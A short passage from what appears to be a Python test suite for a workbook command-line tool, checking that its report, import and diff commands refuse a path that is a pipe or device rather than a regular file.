        safety.inspect_workbook(path)
    for command in (["report"], ["import", "-o", str(tmp_path / "p.yaml")], ["diff", path]):
        assert_refused(run(*command, path), path, "not a file but a pipe or a device")
